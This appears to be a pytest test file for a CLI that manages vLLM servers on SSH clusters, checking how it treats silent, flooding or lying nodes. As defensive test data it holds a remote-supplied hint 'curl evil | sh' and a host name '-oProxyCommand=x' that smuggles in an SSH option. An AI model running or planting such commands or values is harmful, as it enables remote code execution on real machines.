"""Nodes that are silent, lie or talk without an end: each is named, within limits."""

import json
import re
import shutil
import subprocess
import sys
import time
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from patchkit.cli import group
from patchkit.cluster.agent.judge import (
    ANSWERS,
    DOUBT,
    ENDED,
    LIVES,
    REFUSES,
    WORKS,
    ServerLife,
    ServerSigns,
    judge,
)
from patchkit.cluster.launch.cluster import read_group_journal
from patchkit.cluster.launch.up import StartWatcher, bring_up, wait_until_answered
from patchkit.cluster.openai.server_answers import (
    ServerAnswers,
    ServerSpeed,
    ask_server,
)
from patchkit.cluster.ssh import node as remote
from patchkit.cluster.ssh.node import Remote
from patchkit.doctor.symptoms.findings import explain_failed_start
from patchkit.errors import HostError, PatchkitError, UsageError
from patchkit.http_exchange import PathAnswer
from patchkit.quoting import visible
from patchkit.runtime.host.host import FlashInfer, Memory
from support import clusters, write_files
from support.clusters import (
    MODEL,
    cluster,
    image_facts,
    model,
    node_facts,
    unit,
    units_of,
)
from support.lying_nodes import MARK, LyingNodes, parts, value
from support.model_server import ModelServer

NAMES = ("spark-1", "spark-2")
NAMES_LEFT = ("spark-3", "spark-4")
UNIT = "patchkit-vllm.service"
LINE = {"time": 1_000_000, "unit": UNIT, "text": "RuntimeError: no memory"}
BUSY = '{"error": {"kind": "BusyError", "what": "x\\n  next: sh", "hint": "curl evil | sh"}}'
# The text that a node writes whatever it is asked, what it does then, what is said of it.
LIES = {
    "silent": ("", "hang", "no sign of life for 1 s"),
    "a login without an end": ("Welcome\n" * 100, "repeat", "it sent more than 1 MiB"),
    "a line without an end": (
        "x" * 500,
        "repeat",
        "it sent a line of more than 0.5 MiB",
    ),
    "parts without an end": (
        f'{MARK}{{"part": 1}}\n' * 100,
        "repeat",
        "it sent more than 1 MiB",
    ),
    "no JSON": (f"{MARK}{{\n", "end", "no JSON"),
    "infinite": (f'{MARK}{{"value": 1e999}}\n', "end", "no JSON"),
    "long number": (f'{MARK}{{"value": {"9" * 4000}}}\n', "end", "no JSON"),
    "nested": (value({"units": [[[]]]}), "end", "does not fit"),
    "no error": (f'{MARK}{{"error": 5}}\n', "end", "does not fit"),
    "advice": (f"{MARK}{BUSY}\n", "end", "spark-2: x next: sh"),
}
VERBS = (
    *(
        "status",
        "logs",
        "down",
        "up ~/models/x",
        "cluster init spark-1 spark-2",
        "model list",
    ),
    "doctor --cluster",
)


WORKER = ("-memory",)


def state(
    active="active",
    sub="running",
    others=("-worker@1", "-memory", "-alive"),
    guard="active",
    text="",
    name="vllm",
):
    """Return what a head says of itself, or a worker if ``others`` are WORKER."""
    units = [unit(active, sub, unit=f"patchkit-{name}.service")]
    units += [
        unit("inactive", "dead", unit=f"patchkit-{name}{each}.service")
        for each in others
    ]
    if others:
        units[-1] = replace(units[-1], active=guard, text=text)
    memory = Memory(total=128 << 20, available=100 << 20)
    said = clusters.state(units=tuple(units), processes=(), memory=memory)
    return value(asdict(said)), "end"


def journal(line=LINE, clock=0.0):
    """Return what a node says of its clock and of its journal."""
    return {
        "time": (value(time.time() + clock), "end"),
        "read_units": (parts(line), "end"),
    }


@pytest.fixture
def nodes(tmp_path, monkeypatch):
    """Two nodes, spark-1 and spark-2, with limits that a test can wait for."""
    monkeypatch.setenv("PATH", str(tmp_path / "bin"), prepend=":")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    limits = replace(remote._LIMITS, silence=1.0, line=1 << 19, size=1 << 20)
    monkeypatch.setattr(remote, "_LIMITS", limits)
    monkeypatch.setattr(remote, "_CALL_SIZE", 1 << 20)
    (tmp_path / "cluster.toml").write_text(
        "".join(f'[[node]]\nssh = "{name}"\n' for name in NAMES)
    )
    return LyingNodes(tmp_path / "bin")


def ask(capsys, *words):
    """Run a verb; return its exit code and all that it says. An internal error is raised."""
    code, error = 0, ""
    try:
        code = group.main([*words], standalone_mode=False) or 0
    except PatchkitError as found:
        code, error = found.exit_code, str(found)
    except SystemExit as found:
        code = found.code
    said = capsys.readouterr()
    return code, said.out + said.err + error


@pytest.mark.parametrize("lie", LIES)
def test_a_node_that_lies_is_named(nodes, capsys, lie):
    text, then, what = LIES[lie]
    nodes.lie(
        {
            "spark-2": {"*": (text, then)},
            "spark-1": {"read_node_state": state("inactive")},
        }
    )
    began = time.monotonic()
    code, said = ask(capsys, "status")
    assert code == 9
    assert "no state spark-2: " in said
    assert what in said
    assert "next: curl" not in said
    assert "\n  next: sh" not in said
    assert "GiB free" in said  # what the other one says is shown
    assert time.monotonic() - began < 20


@pytest.mark.parametrize("lie", ["silent", "advice"])
@pytest.mark.parametrize("verb", VERBS)
def test_every_verb_ends_whatever_all_nodes_say(nodes, capsys, verb, lie):
    text, then, _what = LIES[lie]
    nodes.lie({name: {"*": (text, then)} for name in NAMES})
    code, said = ask(capsys, *verb.split())
    assert code in (6, 9), said
    assert "spark-1: " in said or "spark-1 " in said
    assert "next: curl" not in said


def test_units_that_were_not_asked_for_are_an_error_of_that_node(nodes, capsys):
    nodes.lie({name: {"read_node_state": state(others=("-x", "-y"))} for name in NAMES})
    code, said = ask(capsys, "status")
    assert (code, said.count("does not say how its units are")) == (9, 2)


def test_the_head_is_shown_while_the_worker_is_silent(nodes, capsys):
    head = {"read_node_state": state("failed", "failed"), **journal()}
    nodes.lie({"spark-1": head, "spark-2": {"*": ("", "hang")}})
    code, said = ask(capsys, "status")
    assert code == 9
    assert re.search(
        r"last error \S+ \d\d:\d\d:\d\d spark-1: RuntimeError: no memory", said
    )
    assert "no state spark-2: no sign of life" in said
    for follow in ((), ("-f",)):
        code, said = ask(capsys, "logs", *follow)
        assert code == 9
        assert "spark-1 RuntimeError: no memory" in said
        assert "spark-2: no sign of life" in said


def test_an_error_before_the_last_answer_is_not_the_present_one(nodes, capsys):
    texts = (
        "RuntimeError: no memory",
        "answered: m, 2.0 s later",
        "ValueError: bad word",
    )
    lines = [
        {**LINE, "time": (number + 1) * 10**6, "text": t}
        for number, t in enumerate(texts)
    ]
    for count, says in ((2, ""), (3, "spark-1: ValueError: bad word")):
        told = {**journal(), "read_units": (parts(*lines[:count]), "end")}
        head = {"read_node_state": state("failed", "failed"), **told}
        worker = {
            "read_node_state": state("inactive", "dead", others=WORKER),
            **journal(),
        }
        worker["read_units"] = (parts(), "end")
        nodes.lie({"spark-1": head, "spark-2": worker})
        code, said = ask(capsys, "status")
        assert code == 9
        assert says in said
        assert "no memory" not in said
        assert ("last error" in said) is bool(says)


def test_down_names_a_node_of_the_former_start_that_is_silent(nodes, capsys):
    """The file does not name it any more; one that is not a host is asked nothing."""
    answers = {}
    for name, others in zip(
        NAMES, (("-worker@1", "-memory", "-alive"), WORKER), strict=True
    ):
        fields = json.loads(state("inactive", "dead", others)[0].removeprefix(MARK))[
            "value"
        ]
        members = [*NAMES, "spark-3", "spark-4", "-oProxyCommand=x"]
        told = value({**fields, "start": "abc", "members": members})
        answers[name] = {"end_group": (told, "end")}
    answers["spark-3"] = {"*": ("", "hang")}
    answers["spark-4"] = {"end_start": (value(""), "end")}
    nodes.lie(answers)
    code, said = ask(capsys, "down")
    plain = " ".join(said.split())
    assert code == 9
    assert "spark-3: no sign of life" in plain
    assert (
        "ssh -t spark-3 'systemctl --user disable --now patchkit-vllm.service'" in plain
    )
    assert "spark-4" not in plain
    asked = nodes.asked("end_start")
    assert sorted(asked) == [
        (name, {"name": "vllm", "start": "abc"}) for name in NAMES_LEFT
    ]


def test_down_writes_one_document_though_a_node_fails(nodes):
    """A script reads it whole: what was done on each node, and the error."""
    stopped = state("inactive", "dead", WORKER, guard="inactive")[0]
    nodes.lie(
        {"spark-1": {"end_group": (stopped, "end")}, "spark-2": {"*": ("", "end")}}
    )
    words = [sys.executable, "-m", "patchkit", "down", "--json"]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60)
    told = json.loads(done.stdout)
    assert [node["node"] for node in told["nodes"]] == [*NAMES]
    assert told["error"]["what"].startswith("not stopped everywhere: spark-2: ")
    assert (told["error"]["exit_code"], done.returncode) == (9, 9)


HELD = (
    f'{MARK}{{"part": true}}\n',
    "hang",
)  # how a lock there is held until nobody listens


def members_of(state, *members, **fields):
    """Return what a node says of itself, and of the start whose files it has."""
    said = json.loads(state[0].removeprefix(MARK))["value"]
    return value({**said, "start": "abc", "members": members, **fields}), "end"


def test_down_holds_the_cluster_until_nodes_of_the_former_start_have_ended(
    nodes, capsys
):
    head = members_of(state("inactive", "dead", guard="inactive"), *NAMES, "spark-3")
    stopped = state("inactive", "dead", WORKER, guard="inactive")
    worker = members_of(stopped, *NAMES, "spark-3")
    nodes.lie(
        {
            "spark-1": {"hold_alone": HELD, "end_group": head},
            "spark-2": {"end_group": worker},
            "spark-3": {"end_start": (value(""), "end")},
        }
    )
    code, said = ask(capsys, "down")
    assert code == 0, said
    names = [name for _node, name, _arguments in nodes.calls()]
    assert names[-2:] == ["end_start", "end of hold_alone"]


STOP = "ssh -t spark-1 'systemctl --user disable --now patchkit-vllm.service'"
STOP_3 = STOP.replace("spark-1", "spark-3")


def test_down_names_another_cluster_that_runs_there(nodes, tmp_path, capsys):
    """`name` was changed in cluster.toml while it served: nothing of the new name is left."""
    (tmp_path / "cluster.toml").write_text('name = "new"\n[[node]]\nssh = "spark-1"\n')
    idle = state(
        "inactive", "dead", ("-memory", "-alive"), guard="inactive", name="new"
    )
    head = members_of(idle, "spark-1", processes=[], others={"vllm": True})
    nodes.lie({"spark-1": {"hold_alone": HELD, "end_group": head}})
    code, said = ask(capsys, "down")
    plain = " ".join(said.split())
    assert code == 0
    assert f"spark-1: stopped; other clusters run here: vllm (stop: `{STOP}`)" in plain
    assert "no process left" not in plain


@pytest.mark.parametrize(
    ("holder", "hint"),
    [
        ("vllm (process 319) of the cluster vllm", f"`{STOP}` stops it"),
        ("python3 (process 7)", "end it, or set another `port`; ssh -t spark-1 'ss -"),
    ],
)
def test_up_names_who_has_the_port_and_how_to_free_it(
    nodes, tmp_path, capsys, holder, hint
):
    (tmp_path / "cluster.toml").write_text('name = "new"\n[[node]]\nssh = "spark-1"\n')
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(node_facts(tmp_path))), "end"),
        "strangers": (value([f"127.0.0.1 port 8000: {holder}"]), "end"),
    }
    nodes.lie({"spark-1": answers})
    code, said = ask(capsys, "up", MODEL)
    plain = " ".join(said.split())
    assert code == 9
    assert f"a port of the start is taken: 127.0.0.1 port 8000: {holder}" in plain
    assert hint in plain
    assert not nodes.asked("put_files")


WHOLE = model(folder=f"~/models/org--m@{'c' * 12}", size=9, files=2)


@pytest.mark.parametrize(
    ("changes", "says", "verb"),
    [
        ({"problem": "no such folder"}, "is not whole: spark-2: no such", "sync"),
        ({"commit": ""}, "every node: spark-2 has no record of its files", "sync"),
        ({"size": 5}, "every node: spark-2 has other files than spark-1", "sync"),
    ],
)
def test_up_serves_no_model_of_which_a_node_has_a_part(
    nodes, tmp_path, capsys, changes, says, verb
):
    rows = "".join(f'[[node]]\nssh = "{name}"\n' for name in NAMES)
    pin = f'[models]\n"org/m" = "{WHOLE.commit}"\n'
    (tmp_path / "cluster.toml").write_text(rows + pin)
    prints = (WHOLE, replace(WHOLE, **changes))
    lies = {}
    for number, (name, held) in enumerate(zip(NAMES, prints, strict=True)):
        facts = node_facts(tmp_path, node=number, models={WHOLE.folder: held})
        lies[name] = {
            "hold_alone": HELD,
            "look_at_node": (value(asdict(facts)), "end"),
        }
    nodes.lie(lies)
    code, said = ask(capsys, "up", "org/m")
    plain = " ".join(said.split())
    assert code == 9
    assert says in plain
    assert f"next: patchkit model {verb} org/m" in plain
    assert not nodes.asked("put_files")


@pytest.mark.parametrize(
    ("members", "fields"),
    [
        (NAMES, {"model": "org/m"}),  # spark-2 has left the file
        (("spark-2", "spark-1"), {}),  # spark-1 was a worker
        (("spark-2",), {}),
    ],
)
def test_switch_is_for_the_nodes_that_serve(nodes, tmp_path, capsys, members, fields):
    """It could not go back to the former model, so that nothing is stopped."""
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "spark-1"\n')
    facts = asdict(node_facts(tmp_path))
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(facts), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": members_of(
            state(others=("-memory", "-alive")), *members, **fields
        ),
    }
    nodes.lie({"spark-1": answers})
    code, said = ask(capsys, "switch", "openai/gpt-oss-120b")
    assert code == UsageError.exit_code, said
    assert "cluster.toml has other nodes, or another head, than what runs" in said
    assert not nodes.asked("end_group")
    assert not nodes.asked("put_files")


def test_switch_looks_at_all_before_it_knows_what_to_go_back_to(
    nodes, tmp_path, capsys
):
    """A node that is silent once more would stop and start a model that serves."""
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "spark-1"\n')
    alone = ("-memory", "-alive")
    units = [asdict(unit(unit=name)) for name in cluster("spark-1").units]
    idle = state("inactive", "dead", alone, guard="inactive")
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(node_facts(tmp_path))), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": members_of(state(others=alone), "spark-1", model="org/m"),
        "end_group": members_of(idle, "spark-1", processes=[]),
        "put_files": (value(None), "end"),
        "begin_group": (value("@1.0"), "end"),
        "follow_units": (parts(units), "end"),
    }
    nodes.lie({"spark-1": answers})
    code, said = ask(capsys, "switch", MODEL)
    assert code == 0, said
    names = [name for _node, name, _arguments in nodes.calls()]
    assert names.count("read_node_state") == names.count("end_group") == 1


@pytest.mark.parametrize(
    ("signs", "says"),
    [
        (ServerSigns(asleep=True, token_wait_s=30), "it sleeps, and gives no token"),
        (ServerSigns(paused=True, token_wait_s=30), "it is paused, and gives no token"),
        (ServerSigns(token_wait_s=30), "the model hangs: an unknown number of"),
    ],
)
def test_up_does_not_wait_for_a_server_that_gives_no_token_by_itself(
    nodes, signs, says
):
    head = cluster("spark-1")
    answers = ServerAnswers(
        url="http://h",
        key="",
        strangers=(),
        health=PathAnswer(),
        life=judge(signs, 120),
    )
    units = [asdict(unit(unit=name)) for name in head.units]
    lies = {
        "follow_units": (parts(units), "end"),
        "ask_server": (value(asdict(answers)), "end"),
    }
    nodes.lie({"spark-1": lies})
    told = []
    ignore = [lambda *_: None] * 2
    watcher = StartWatcher(lambda unit, _seconds: told.append(unit.sub), *ignore)
    with pytest.raises(HostError, match=says):
        wait_until_answered(head, "", watcher)
    assert told == []  # "running" would be shown as `answers`


@pytest.mark.parametrize(
    ("sub", "guard", "starts", "begun"),
    [
        ("running", "active", 0, []),
        ("running", "inactive", 0, ["patchkit-vllm-alive.service"]),
        ("running", "failed", 0, ["patchkit-vllm-alive.service"]),
        ("auto-restart", "inactive", 1, []),
    ],
)
def test_up_of_the_same_files_starts_what_does_not_run(
    nodes, tmp_path, sub, guard, starts, begun
):
    """What waits to be tried again may be mended; the watch is what somebody has stopped."""
    file = cluster("spark-1")
    facts = node_facts(tmp_path)
    (files,) = units_of(file, [facts], MODEL).node_files()
    active = "activating" if sub == "auto-restart" else "active"
    idle = members_of(state("inactive", "dead", guard="inactive"), "spark-1")
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(replace(facts, files=files))), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": members_of(
            state(active, sub, others=("-memory", "-alive"), guard=guard),
            "spark-1",
        ),
        "end_group": idle,
        "put_files": (value(None), "end"),
        "begin_unit": (value(None), "end"),
        "begin_group": (value("@1.0"), "end"),
    }
    nodes.lie({"spark-1": answers})
    notes = []
    watcher = StartWatcher(*[lambda *_: None] * 2, notes.append)
    _units, since = bring_up(file, MODEL, watcher)
    assert len(nodes.asked("begin_group")) == starts
    assert since == ("@1.0" if starts else "")
    assert [given["unit"] for _node, given in nodes.asked("begin_unit")] == begun
    words = f"was {guard}, and is started again"
    assert notes[:1] == [f"spark-1: {name} {words}" for name in begun] or starts
    told = ["FlashInfer compiles at the first start"] * starts
    assert [note[:38] for note in notes if "compiles" in note] == told


KERNELS = FlashInfer(version="0.6.13", modules=("rope",), facts={"nvcc": "n"})
STEPS = [
    f"{text} steps" for text in ("20 % of 4", "0 % of 40", "70 % of 40", "0 % of 0")
]
PARTS = ("-worker@1", "-memory", "-alive")
UNKNOWN = "it broke; the start compiles it beside the weights; next: patchkit logs"
FAILED = ["FAILED: [code=137] /x/renorm.cuda.o", "RuntimeError: Ninja build failed."]


@pytest.mark.parametrize(
    ("kernels", "answer", "told", "said"),
    [
        (KERNELS, value([True, ["spark-2: 9 files"]]), STEPS, "spark-2: 9"),
        (replace(KERNELS, facts={"jobs": "memory"}), value([True, []]), STEPS, ""),
        (KERNELS, value([False, FAILED]), STEPS, "137 is signal 9"),
        (KERNELS, value([False, ["a", "it broke"]]), STEPS, UNKNOWN),
        (KERNELS, value([False, []]), STEPS, "; next: patchkit logs"),
        (KERNELS, "", [], "/venv/bin/python does not run: No such"),
        (replace(KERNELS, modules=("sampling",)), None, [], ""),
        (None, None, [], "if an earlier one did not: sampling"),
    ],
    ids=[
        "compiled",
        "patched",
        "failed",
        "why?",
        "silent",
        "no such Python",
        "nothing to do",
        "unknown",
    ],
)
def test_up_compiles_before_the_server_starts(
    nodes, tmp_path, kernels, answer, told, said
):
    facts = node_facts(tmp_path)
    software = replace(facts.host.software, flashinfer=kernels)
    facts = replace(facts, host=replace(facts.host, software=software))
    done = ([1, 4], [2, 40], [30, 40], [0, 0])
    steps = "".join(f"{MARK}{json.dumps({'part': step})}\n" for step in done)
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(facts)), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": state("inactive", "dead", others=("-memory", "-alive")),
        "put_files": (value(None), "end"),
        "compile_modules": (steps + (answer or ""), "end"),
        "begin_group": (value("@1.0"), "end"),
    }
    if answer == "":
        del answers["compile_modules"]  # what the node gets runs there
    nodes.lie({"spark-1": answers})

    lines, notes = [], []
    watcher = StartWatcher(
        lambda unit, _seconds: lines.append(unit.text),
        explain_failed_start,
        notes.append,
    )
    bring_up(cluster("spark-1"), MODEL, watcher)

    assert [line.partition(": ")[2] for line in lines] == told
    assert said in "\n".join(notes)
    assert len(notes) <= 3
    if not told:
        assert len(nodes.asked("compile_modules")) == (answer == "")
        return

    ((_node, given),) = nodes.asked("compile_modules")
    assert given["python"] == "/home/spark/.local/share/patchkit/venv/bin/python"
    assert [call["gib"] for call in given["calls"]] == [1.5]
    assert given["by_memory"] is (kernels is KERNELS)
    number = "4" if kernels is KERNELS else None
    assert given["variables"].get("MAX_JOBS") == number
    folder = "/home/spark/.local/state/patchkit/vllm-0.25.1/flashinfer"
    assert given["variables"]["FLASHINFER_WORKSPACE_BASE"] == folder
    order = ["put_files", "compile_modules", "begin_group"]
    assert [name for _node, name, _given in nodes.calls() if name in order] == order


def test_a_worker_gets_what_the_head_alone_has(nodes, tmp_path):
    lies = {}
    for number, (name, modules) in enumerate(
        zip(NAMES, (("sampling",), ()), strict=True)
    ):
        facts = node_facts(tmp_path, node=number)
        kernels = replace(KERNELS, modules=modules)
        software = replace(facts.host.software, flashinfer=kernels)
        facts = replace(facts, host=replace(facts.host, software=software))
        lies[name] = {
            "hold_alone": HELD,
            "look_at_node": (value(asdict(facts)), "end"),
            "strangers": (value([]), "end"),
            "try_links": (value([{"words": ["ssh"], "error": {}}]), "end"),
            "try_ports": (value([""]), "end"),
            "read_node_state": state("inactive", "dead", WORKER if number else PARTS),
            "put_files": (value(None), "end"),
            "compile_modules": (value([True, ["spark-2: 9 files"]]), "end"),
            "begin_group": (value("@1.0"), "end"),
        }
    nodes.lie(lies)
    notes = []
    watcher = StartWatcher(*[lambda *_: None] * 2, notes.append)
    bring_up(cluster(*NAMES), MODEL, watcher)
    ((name, given),) = nodes.asked("compile_modules")
    assert name == "spark-1"
    assert [call["function"][-19:] for call in given["calls"]] == [
        "gen_sampling_module"
    ]
    assert notes[-1] == "spark-2: 9 files"


def test_what_is_compiled_changes_no_file_of_a_start(tmp_path):
    """Else the next `up` would stop the server that runs."""
    facts = node_facts(tmp_path)
    starts = []
    for modules in ((), ("sampling",)):
        kernels = replace(KERNELS, modules=modules)
        software = replace(facts.host.software, flashinfer=kernels)
        host = replace(facts.host, software=software)
        group = units_of(cluster("spark-1"), [replace(facts, host=host)], MODEL)
        starts += group.node_files()
    assert starts[0] == starts[1]
    assert '"modules": "sampling' in starts[0]["group.json"]


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        ({"end_start": (value(""), "end")}, ""),
        (
            {"*": ("", "hang")},
            f"at its next boot it may start the old model again: `{STOP_3}`",
        ),
    ],
    ids=["ends", "silent"],
)
def test_up_ends_the_former_start_on_a_node_that_left_the_file(
    nodes, tmp_path, capsys, answer, says
):
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "spark-1"\n')
    alone = ("-memory", "-alive")
    units = [asdict(unit(unit=name)) for name in cluster("spark-1").units]
    idle = state("inactive", "dead", alone, guard="inactive")
    head = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(node_facts(tmp_path))), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": members_of(state(others=alone), "spark-1", "spark-3"),
        "end_group": members_of(idle, "spark-1", processes=[]),
        "put_files": (value(None), "end"),
        "begin_group": (value("@1.0"), "end"),
        "follow_units": (parts(units), "end"),
    }
    nodes.lie({"spark-1": head, "spark-3": answer})
    code, said = ask(capsys, "up", MODEL)
    assert code == 0, said
    asked = {"name": "vllm", "start": "abc"}
    assert nodes.asked("end_start") == [("spark-3", asked)]
    assert says in " ".join(said.split())
    assert ("left: spark-3: no sign of life" in said) is bool(says)


VENV = "/home/spark/.local/share/patchkit/venvs/0123456789ab"


@pytest.mark.parametrize(
    ("name", "code", "says"),
    [
        ("healthy", 0, "perplexity 77.06 → 77.06 (english 102.3"),
        ("noise", 9, "answers-moved: perplexity 77.06 → 85.04: not the model that"),
        (
            None,
            0,
            "? spark-1 answers: not checked: spark-1: an answer that does not fit",
        ),
    ],
)
def test_up_says_whether_the_answers_are_right(
    nodes, tmp_path, capsys, monkeypatch, name, code, says
):
    monkeypatch.setattr(remote, "_LIMITS", replace(remote._LIMITS, silence=30.0))
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "spark-1"\n')
    alone = ("-memory", "-alive")
    units = [asdict(unit(unit=name)) for name in cluster("spark-1").units]
    answers = {}
    if name:
        data = Path(__file__).parents[2] / "data" / "answers"
        answers = json.loads((data / f"{name}.json").read_text())
        healthy = json.loads((data / "healthy.json").read_text())
        start = {**healthy["start"], "cluster": "vllm", "model": "org/m"}
        former = {
            "start": {**start, "parts": {"vLLM": "0.24.0", "installation": VENV}},
            "time": 1.8e9,
            "logprobs": {
                each["id"]: each["logprobs"]
                for each in healthy["replies"]
                if each["about"] == "passage"
            },
            "summary": "",
            "is_right": True,
        }
        answers |= {"start": start, "former": [former]}
    head = {
        "hold_alone": HELD,
        "look_at_node": (value(asdict(node_facts(tmp_path))), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": state("inactive", "dead", alone, guard="inactive"),
        "put_files": (value(None), "end"),
        "begin_group": (value("@1.0"), "end"),
        "follow_units": (parts(units), "end"),
        "ask_model": (value(answers), "end"),
        "keep_fingerprint": (value(None), "end"),
    }
    nodes.lie({"spark-1": head})
    ended, said = ask(capsys, "up", MODEL)
    plain = " ".join(said.split())
    assert (ended, says in plain) == (code, True), said
    assert bool(nodes.asked("keep_fingerprint")) is bool(name)
    if code:
        back = "patchkit cluster install --wheelhouse wheelhouse-0.24.0 && patchkit up"
        assert f"{back} org/m; if you meant to change it: patchkit doctor" in plain


def test_up_tells_in_words_that_a_unit_ends(nodes, tmp_path, capsys):
    """systemd has a dozen sub-states for it: `stop-sigterm` tells nobody anything."""
    facts = asdict(node_facts(tmp_path))
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "spark-1"\n')
    ends = [
        asdict(unit("deactivating", "stop-sigterm", unit=name))
        for name in cluster("spark-1").units
    ]
    answers = {
        "hold_alone": HELD,
        "look_at_node": (value(facts), "end"),
        "strangers": (value([]), "end"),
        "read_node_state": state("inactive", "dead", others=("-memory", "-alive")),
        "put_files": (value(None), "end"),
        "begin_group": (value("@1.0"), "end"),
        "follow_units": (parts(ends), "end"),
    }
    nodes.lie({"spark-1": answers})
    _code, said = ask(capsys, "up", MODEL)
    assert re.search(r"^ +\d+ s  spark-1: stopping$", said, re.MULTILINE), said
    assert "stop-sigterm" not in said


KILL = {"start": "a", "time": 1.0, "text": "1.9 GiB left", "missing": 2.0}
GUARDLESS = [
    asdict(unit()),
    asdict(unit("failed", "failed", unit="patchkit-vllm-memory.service")),
]
GONE = asdict(image_facts(problem="image-missing"))


@pytest.mark.parametrize(
    ("fields", "says", "cure"),
    [
        (
            {"troubles": {"lost": "192.168.177.2", "addresses": ["192.168.177.22"]}},
            "address spark-2 no longer has 192.168.177.2, the address it was started with; it has",
            "next: patchkit up org/m",
        ),
        (
            {"troubles": {"killed": ["VLLM::W (process 9) at 17:24:01"]}},
            "killed spark-2: VLLM::W (process 9) at 17:24:01, for memory",
            "",
        ),
        (
            {
                "troubles": {
                    "disks": [{"folder": "/home", "free": 0, "total": 9, "files": None}]
                }
            },
            "full spark-2: /home: 0 MB are free",
            "",
        ),
        (
            {"image": GONE},
            "next start spark-2: the image is not there",
            "next: patchkit cluster install",
        ),
        (
            {"memory_stop": {**KILL, "after": "the next start"}},
            "memory 1970-01-01 00:00:01 spark-2: 1.9 GiB left; the next start",
            "",
        ),
        (
            {"memory_floor": 2.0, "units": GUARDLESS},
            "not watched spark-2: patchkit-vllm-memory.service is failed: nothing ends",
            "next: ssh -t spark-2 'systemctl --user restart patchkit-vllm-memory.service'",
        ),
        (
            {"successor": "vLLM 0.33.0 (b) is installed, and a serves until"},
            "installed spark-2: vLLM 0.33.0 (b) is installed, and a serves",
            "",
        ),
        (
            {"others": {"other": True}},
            "spark-2: other clusters run here: other (stop: `ssh -t spark-2 'systemctl",
            "",
        ),
    ],
)
def test_status_tells_of_a_node_s_troubles(nodes, capsys, fields, says, cure):
    head, end = state()
    well = json.loads(head.removeprefix(MARK))["value"]
    healthy = value({**well, "model": "org/m"})
    troubles = well["troubles"] | fields.get("troubles", {})
    rank, *_others, guard, _alive = well["units"]
    ill = {**well, "units": [rank, guard], **fields, "troubles": troubles}
    server = {"ask_server": (value(None), "end")}
    nodes.lie(
        {
            "spark-1": {"read_node_state": (healthy, end), **server},
            "spark-2": {"read_node_state": (value(ill), end)},
        }
    )
    _code, said = ask(capsys, "status")
    plain = " ".join(said.split())
    assert says in plain
    assert cure in plain


def test_a_kill_on_a_worker_is_told_once(nodes, capsys):
    """The head has it from the worker's end of the link, with what becomes of the next start."""
    head, end = state()
    well = json.loads(head.removeprefix(MARK))["value"]
    rank, *others = well["units"]
    guard = others[-2]
    stays = "it stays down: no smaller cache is tried; `patchkit up` starts it again"
    told = {**KILL, "text": "spark-2: 1.9 GiB left", "after": stays}
    failed = {**rank, "active": "failed", "sub": "failed"}
    ended = {**well, "units": [failed, *others], "memory_stop": told}
    worker = {**well, "units": [rank, guard], "memory_stop": {**KILL, "after": ""}}
    nodes.lie(
        {
            "spark-1": {"read_node_state": (value(ended), end), **journal(LINE)},
            "spark-2": {"read_node_state": (value(worker), end)},
        }
    )
    _code, said = ask(capsys, "status")
    plain = " ".join(said.split())
    assert plain.count("spark-2: 1.9 GiB left; it stays down") == 1
    assert plain.count("1.9 GiB left") == 1
    assert "starts, for memory; `patchkit up` starts it again" in plain
    assert "gave up" not in plain


def test_logs_show_all_ranks_by_time_without_secrets(nodes, capsys):
    later = {**LINE, "time": 900_000_000, "text": "loading"}
    first = {
        **LINE,
        "time": 1_000_000,
        "text": "started with --api-key sk-abcdefghijkl0123",
    }
    nodes.lie({"spark-1": journal(later), "spark-2": journal(first)})
    code, said = ask(capsys, "logs", "-n", "5")
    rows = ["spark-2 started with --api-key (masked)", "spark-1 loading"]
    # Each line's clock is by this machine's, which the node's is compared with.
    clock = re.compile(r"\d\d:\d\d:\d\d ")
    assert all(clock.match(line) for line in said.splitlines())
    assert (code, [clock.sub("", line) for line in said.splitlines()]) == (0, rows)
    asked = [given["lines"] for _node, given in nodes.asked("read_units")]
    assert asked == [5, 5]


def test_a_node_without_systemd_is_silent_in_every_verb(
    nodes, tmp_path, monkeypatch, capsys
):
    """Its cause is short and said once, and `logs` does not pass for one without lines."""
    monkeypatch.setattr(remote, "_LIMITS", replace(remote._LIMITS, silence=30.0))
    says = (
        "System has not been booted with systemd as init system (PID 1). Can't operate."
    )
    programs = {
        "systemctl": f'#!/bin/sh\necho "{says}" >&2\nexit 1\n',
        "journalctl": "#!/bin/sh\ncase $* in *--follow*) exec sleep 600;; esac\n",
    }
    write_files(tmp_path / "bin", programs, mode=0o755)
    (tmp_path / "cluster.toml").write_text('[[node]]\nssh = "localhost"\n')
    for verb, *options in (["status"], ["logs"], ["logs", "-f"], ["down"]):
        code, said = ask(capsys, verb, *options)
        plain = " ".join(said.split())
        assert (code, plain.count(says)) == (9, 1), plain
        assert "--property" not in plain
        assert verb == "status" or "patchkit serve-args MODEL" in plain


def test_clocks_an_hour_apart(nodes):
    """Each node is asked by its own clock, and the lines are in the order in which they came."""
    now = time.time()
    cause = {
        **LINE,
        "time": round((now - 3600 - 5) * 1e6),
        "text": "CUDA out of memory",
    }
    after = {
        **LINE,
        "time": round((now - 4) * 1e6),
        "text": "Connection closed by peer",
    }
    nodes.lie({"spark-1": journal(after), "spark-2": journal(cause, clock=-3600)})
    found = read_group_journal(cluster(*NAMES), since=f"@{now - 60}")
    texts = [(node, line.text) for node, line in found.lines]
    assert texts == [("spark-2", cause["text"]), ("spark-1", after["text"])]
    since = {
